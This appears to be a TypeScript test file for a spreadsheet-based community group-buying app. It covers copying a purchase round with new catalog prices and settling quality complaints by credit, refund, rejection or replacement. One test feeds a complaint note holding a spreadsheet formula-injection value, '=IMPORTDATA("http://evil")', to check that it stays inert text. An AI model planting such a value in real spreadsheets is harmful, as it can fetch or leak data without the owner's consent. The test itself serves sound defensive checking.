import { formatMoney } from '../../src/core/i18n/format';
import { wallTime } from '../../src/core/time';
import { Community, HOUR, openCommunity, submit, typeRows, yes } from '../harness/community';
import { cell, rowWhere, sheetValues } from '../harness/sheets';

/**
 * Between rounds (issue 18), through the built bundle on the emulator: a round like an earlier one with
 * the Catalog's new prices, and complaints about quality decided as credit, refund or rejection — the
 * way people see them: the plan's sentences, the bills, the Journal, the Ledger and the emails.
 */

interface Person {
  orderKey: string;
  name: string;
  dueMinor: number;
  paidMinor: number;
  balanceMinor: number;
}
const person = (c: Community, name: string, roundId = c.roundId) =>
  c.ws.run<{ participants: Person[] }>('participantsScreen', [roundId]).participants.find((p) => p.name === name)!;
const kop = (v: unknown) => Math.round(Number(v || 0) * 100);

interface Plan {
  from: string;
  proposal: { title: string; deadline: string; itemIds: string[]; delivery: string; pickupTime: string; feePercent: number };
  changes: string[];
  watch: string[];
}

describe('a new round like an earlier one', () => {
  test('copies the round, proposes the next stop at the same weekday and time, and lists what the Catalog changed', () => {
    const c = openCommunity({ settings: { feePercent: '5' } });
    // The eggs are dearer, the rice cheaper, the oil's row is gone from the Catalog.
    typeRows(
      c.ws,
      'Каталог',
      [['RICE', 'Рис', '', '大米', 'Rice', 'кг', '90', '0,5', '25', '', '10', '', '120', 'Опт', 'R-1']],
      2,
    );
    typeRows(c.ws, 'Каталог', [['', '', '', '', '', '', '', '', '', '', '', '', '', '', '']], 3);
    typeRows(c.ws, 'Каталог', [['EGGS', 'Яйца', '', '鸡蛋', 'Eggs', 'дес.', '125', '', '', '', 3, 40, '', 'Ферма', 'E-1']], 4);
    const plan = c.ws.run<Plan>('roundLikePlan', [c.roundId]);
    expect(plan.changes).toEqual([
      'Рис: было 95,50\u00a0₽, стало 90,00\u00a0₽ (дешевле).',
      'Товара «Масло подсолнечное» больше нет в каталоге: в новую закупку он не войдёт.',
      'Яйца: было 110,00\u00a0₽, стало 125,00\u00a0₽ (дороже).',
    ]);
    expect(plan.proposal).toMatchObject({
      title: 'Ноябрь',
      itemIds: ['RICE', 'EGGS', 'FLOUR'],
      delivery: '900,00\u00a0₽',
      pickupTime: 'суббота 10–12',
      feePercent: 5,
    });
    // A week after the earlier stop, at its weekday and time on the spreadsheet's clock.
    const zone = c.ws.spreadsheet.timeZone();
    const earlier = c.snapshot().round.deadline;
    const next = Date.parse(plan.proposal.deadline);
    expect(next - earlier).toBe(7 * 24 * HOUR);
    expect(wallTime(next, zone)).toMatchObject({ weekday: wallTime(earlier, zone).weekday, hour: wallTime(earlier, zone).hour });

    // Created from the plan and opened: the new round's form and bills use today's prices.
    const created = c.ws.run<{ id: string }>('createRound', [{ ...plan.proposal, requestId: 'like-1' }]);
    c.ws.run('openRound', [created.id]);
    const snapshot = c.ws.run<{ id: string; itemIds: string[] }[]>('listRounds').find((r) => r.id === created.id)!;
    expect(snapshot.itemIds).toEqual(['RICE', 'EGGS', 'FLOUR']);
    submit({ ...c, roundId: created.id }, { name: 'Анна', items: { EGGS: '2' } });
    yes(c.ws, 'closeRound', [created.id]);
    expect(person(c, 'Анна', created.id)).toMatchObject({ dueMinor: 250_00 + 900_00 + Math.round(250_00 * 0.05) });
  });

  test('only a coordinator repeats a round; an unknown round is named', () => {
    const c = openCommunity();
    expect(() => c.ws.run('roundLikePlan', ['R9'])).toThrow('Закупка R9 не найдена.');
  });
});

describe('complaints about quality', () => {
  /** R1 closed and arrived: Анна (anna@) took 2 dozen eggs and paid; Борис took 1 and paid. */
  function arrived(): Community & { anna: Person; boris: Person } {
    const c = openCommunity();
    submit(c, { name: 'Анна', email: 'anna@example.org', building: 'Дом 1', items: { EGGS: '2' } });
    submit(c, { name: 'Борис', email: 'boris@example.org', building: 'Дом 2', lang: '中文', items: { EGGS: '1' } });
    yes(c.ws, 'closeRound', [c.roundId]);
    c.ws.run('supplierOrder', [c.roundId]);
    yes(c.ws, 'recordReceipt', [c.roundId, {}]);
    for (const name of ['Анна', 'Борис']) {
      const p = person(c, name);
      c.ws.run('recordPayment', [
        { roundId: c.roundId, orderKey: p.orderKey, amount: formatMoney(p.dueMinor, 'RUB', 'ru'), requestId: `pay-${name}` },
      ]);
    }
    return { ...c, anna: person(c, 'Анна'), boris: person(c, 'Борис') };
  }
  const complain = (c: Community, orderKey: string, quantity: string, note: string, requestId: string) =>
    c.ws.run<{ id: string; decisionText: string }>('recordComplaint', [
      { roundId: c.roundId, orderKey, itemId: 'EGGS', quantity, note, requestId },
    ]);
  /** The emails a person has got, once the queue is sent (as the sidebar's Emails screen or the tick does). */
  const mailTo = (c: Community, to: string) => {
    c.ws.run('sendQueuedEmails');
    return c.ws.mail.sent.filter((m) => m.to === to);
  };

  test('credited: the Journal and Ledger reconcile, the resident is told, and the next bill takes it off', () => {
    const c = arrived();
    const complaint = complain(c, c.anna.orderKey, '1', 'половина яиц разбита', 'req-1');
    // A double click records one complaint.
    expect(complain(c, c.anna.orderKey, '1', 'половина яиц разбита', 'req-1').id).toBe(complaint.id);
    expect(sheetValues(c.ws, 'Жалобы').slice(1)).toHaveLength(1);
    const decided = yes<{ decisionText: string; amount: string }>(c.ws, 'decideComplaint', [
      { complaintId: complaint.id, decision: 'credit' },
    ]);
    expect(decided).toMatchObject({ decisionText: 'зачёт в следующую закупку', amount: '110,00\u00a0₽' });
    // Anna's bill in R1 stays paid; 110 ₽ waits for her next round.
    expect(person(c, 'Анна').balanceMinor).toBe(0);
    const [mail] = mailTo(c, 'anna@example.org').filter((m) => m.subject.includes('жалоба'));
    expect(mail.subject).toBe('Ноябрь: ваша жалоба на товар «Яйца»');
    expect(mail.body).toContain('110,00\u00a0₽ будет зачтено в ваш счёт в следующей закупке.');
    // Deciding again is refused, and names the decision.
    expect(() => yes(c.ws, 'decideComplaint', [{ complaintId: complaint.id, decision: 'refund' }])).toThrow(
      'Анна: по жалобе на товар «Яйца» уже принято решение: зачёт в следующую закупку.',
    );

    // The next round: Anna orders again; her final bill uses the credit.
    const next = c.ws.run<{ id: string }>('createRound', [
      { title: 'Декабрь', deadline: new Date(c.ws.clock.now() + 24 * HOUR).toISOString(), itemIds: ['EGGS'] },
    ]);
    c.ws.run('openRound', [next.id]);
    submit({ ...c, roundId: next.id }, { name: 'Анна', email: 'anna@example.org', building: 'Дом 1', items: { EGGS: '3' } });
    yes(c.ws, 'closeRound', [next.id]);
    const anna2 = person(c, 'Анна', next.id);
    expect([anna2.dueMinor, anna2.balanceMinor]).toEqual([330_00, 220_00]);
    const bill = mailTo(c, 'anna@example.org').find((m) => m.subject.startsWith('Декабрь') && m.body.includes('220,00'));
    expect(bill?.body).toContain('110,00');

    // The Ledger: R1 holds 110 ₽ less (carried out as credit), R2 took it in; cash on hand = Σ balances.
    const ledger = sheetValues(c.ws, 'Ведомость');
    const line = (id: string) => ledger.find((r) => cell('ledger', r, 'round') === id)!;
    const [one, two] = [line(c.roundId), line(next.id)];
    expect([kop(cell('ledger', one, 'collected')), kop(cell('ledger', one, 'creditOut'))]).toEqual([330_00 + 2 * 450_00, 110_00]);
    expect(kop(cell('ledger', two, 'credit'))).toBe(110_00);
    const community = ledger.find((r) => cell('ledger', r, 'title') === 'Сообщество, все закупки вместе')!;
    const sum = (col: 'balance' | 'collected') => [one, two].reduce((s, r) => s + kop(cell('ledger', r, col)), 0);
    expect(kop(cell('ledger', community, 'cash'))).toBe(sum('collected'));
    expect(kop(cell('ledger', community, 'cash'))).toBe(sum('balance'));
  });

  test('refunded: the money goes back through the Journal; the bill stays square and the cash is less', () => {
    const c = arrived();
    const complaint = complain(c, c.boris.orderKey, '1', '臭了', 'req-2');
    const asked = c.ws.run<{ confirm: { question: string } }>('decideComplaint', [
      { complaintId: complaint.id, decision: 'refund' },
    ]);
    expect(asked.confirm.question).toBe(
      'Борис: «Яйца» — возврат денег, 110,00\u00a0₽? Это будет записано в кассу, участнику придёт письмо.',
    );
    // Nothing is written before the answer.
    expect(sheetValues(c.ws, 'Касса').flat()).not.toContain('скидка по жалобе');
    yes(c.ws, 'decideComplaint', [{ complaintId: complaint.id, decision: 'refund' }]);
    const journal = sheetValues(c.ws, 'Касса').filter((r) => cell('journal', r, 'orderKey') === c.boris.orderKey);
    expect(journal.map((r) => [cell('journal', r, 'kind'), kop(cell('journal', r, 'amount'))])).toEqual([
      ['оплата', c.boris.dueMinor],
      ['скидка по жалобе', 110_00],
      ['возврат', 110_00],
    ]);
    expect(person(c, 'Борис').balanceMinor).toBe(0);
    const money = c.ws.run<{ ledger: { collectedMinor: number; outstandingMinor: number } }>('moneyScreen', [c.roundId]).ledger;
    expect(money).toMatchObject({ collectedMinor: c.anna.dueMinor + c.boris.dueMinor - 110_00, outstandingMinor: 0 });
    // Boris reads Chinese.
    const [mail] = mailTo(c, 'boris@example.org').filter((m) => m.subject.includes('投诉'));
    expect(mail.body).toContain('我们将退还您₽110.00。');
  });

  test('rejected: a reason is needed, the resident reads it, and no money moves', () => {
    const c = arrived();
    const complaint = complain(c, c.anna.orderKey, '2', 'мелкие', 'req-3');
    expect(() => yes(c.ws, 'decideComplaint', [{ complaintId: complaint.id, decision: 'reject' }])).toThrow(
      'Напишите, почему жалоба отклонена: участник это прочитает.',
    );
    const journalBefore = sheetValues(c.ws, 'Касса').length;
    yes(c.ws, 'decideComplaint', [{ complaintId: complaint.id, decision: 'reject', reason: 'яйца категории С2 и были мелкими' }]);
    expect(sheetValues(c.ws, 'Касса')).toHaveLength(journalBefore);
    const row = rowWhere(c.ws, 'Жалобы', 'complaints', 'id', complaint.id);
    expect([cell('complaints', row, 'decision'), cell('complaints', row, 'reason')]).toEqual([
      'отклонена',
      'яйца категории С2 и были мелкими',
    ]);
    const [mail] = mailTo(c, 'anna@example.org').filter((m) => m.subject.includes('жалоба'));
    expect(mail.body).toContain('не можем её принять: яйца категории С2 и были мелкими');
  });

  test('bad input is refused in the volunteer’s words, and a resident’s text stays inert', () => {
    const c = arrived();
    expect(() => complain(c, c.anna.orderKey, '3', '', 'x1')).toThrow('Количество «3»: укажите число больше 0 и не больше 2.');
    expect(() =>
      c.ws.run('recordComplaint', [
        { roundId: c.roundId, orderKey: c.anna.orderKey, itemId: 'RICE', quantity: '1', requestId: 'x2' },
      ]),
    ).toThrow('Анна: в этой закупке нет товара «Рис» для этого участника.');
    complain(c, c.anna.orderKey, '1', '=IMPORTDATA("http://evil")', 'x3');
    expect(
      c.ws.spreadsheet
        .sheet('Жалобы')!
        .cells.flat()
        .filter((v) => v?.formula),
    ).toEqual([]);
    const screen = c.ws.run<{ complaints: { note: string }[] }>('complaintsScreen', [c.roundId]);
    expect(screen.complaints.map((x) => x.note)).toEqual(['=IMPORTDATA("http://evil")']);
  });

  test('an item complained about twice is named when the next round is prepared, with replacements owed', () => {
    const c = arrived();
    const first = complain(c, c.anna.orderKey, '1', 'разбиты', 'r1');
    complain(c, c.boris.orderKey, '1', 'несвежие', 'r2');
    yes(c.ws, 'decideComplaint', [{ complaintId: first.id, decision: 'replace' }]);
    const plan = c.ws.run<Plan>('roundLikePlan', [c.roundId]);
    expect(plan.watch).toEqual(['Яйца: 2 жалобы на качество в прошлых закупках.', 'Анна: положена замена — Яйца, 1\u00a0дес.']);
  });
});
